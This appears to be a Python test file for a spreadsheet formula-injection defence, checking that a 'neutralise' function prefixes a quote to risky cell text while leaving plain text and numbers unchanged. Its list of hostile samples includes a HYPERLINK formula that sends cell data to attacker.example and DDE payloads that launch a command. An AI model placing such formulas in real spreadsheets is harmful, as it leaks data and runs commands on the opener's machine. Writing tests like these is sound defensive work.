"""Formula injection: cells a spreadsheet would run get a leading quote."""

from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flexwatch.cases.neutralise import QUOTE, TRIGGERS, neutralise

HOSTILE = [
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://attacker.example/?d="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    '+HYPERLINK("http://x")',
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    "@",
    "-12.5e",
    "--5",
]
HARMLESS = [
    "Berry pickers housed in a shed",
    "",
    "a=b",
    "x-1",
    "nace_01",
    "FI",
    "5-7 days",
]
NUMBERS = ["-3", "+3", "-12.5", "+1.5e3", "-.5", "-4E-2"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_gets_a_leading_quote(text):
    assert neutralise(text) == QUOTE + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_text_that_is_only_a_number_stays_a_number(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-1.50"), None, True, 0])
def test_values_that_are_not_text_are_never_touched(value):
    assert neutralise(value) is value


@given(st.text())
def test_nothing_leaves_beginning_with_a_trigger_unless_it_is_a_number(text):
    made = neutralise(text)

    assert made in (text, QUOTE + text)
    if made.startswith(TRIGGERS):
        float(made)  # left unquoted, so it must read as a number
